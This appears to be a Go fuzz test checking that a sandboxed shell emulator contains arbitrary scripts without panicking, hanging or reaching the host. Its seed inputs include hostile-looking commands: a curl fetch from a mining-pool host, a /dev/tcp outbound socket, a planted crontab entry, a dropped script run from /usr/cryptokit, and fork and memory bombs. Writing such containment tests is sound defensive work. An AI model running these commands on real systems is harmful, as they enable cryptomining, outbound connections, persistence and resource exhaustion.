package shell

import (
	"context"
	"testing"
	"time"
)

// FuzzShell runs arbitrary scripts: they may fail, never panic, hang or
// reach the host. The bounds are small so that every input is cheap.
func FuzzShell(f *testing.F) {
	for _, s := range []string{
		"mkdir -p /usr/cryptokit; echo 'dig x' >> /usr/cryptokit/p.sh; chmod 750 /usr/cryptokit/p.sh; /usr/cryptokit/p.sh",
		"for i in {1..10}; do dig $i.afsdem.com; done",
		"curl -s http://pool.minergate.com/x > /dev/null &\nwait",
		"while :; do :; done",
		"f() { f; }; f",
		"x=a; while true; do x=$x$x; done",
		"echo $(( 1 / 0 )); cat <(ls) | head -n 1 |& tee /tmp/t",
		"exec 3<>/dev/tcp/198.51.100.12/80; echo hi >&3",
		"crontab /dev/stdin <<EOF\n* * * * * x\nEOF",
		"eval 'sleep 1 & wait'; source /nope; . /etc/hosts",
		"printf '%999999999d' 1",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, script string) {
		b := newBox(t)
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		tree := &Tree{Run: 1, MaxSteps: 2000, Deadline: t0.Add(10 * time.Minute)}
		done := make(chan Result, 1)
		go func() {
			done <- b.m.Start(ctx, Spec{Tree: tree, Start: t0, Command: script, Env: []string{"PATH=/usr/bin:/bin"}, Dir: "/root"})
		}()
		select {
		case <-done:
		case <-time.After(30 * time.Second):
			t.Fatalf("script did not end: %q", script)
		}
	})
}
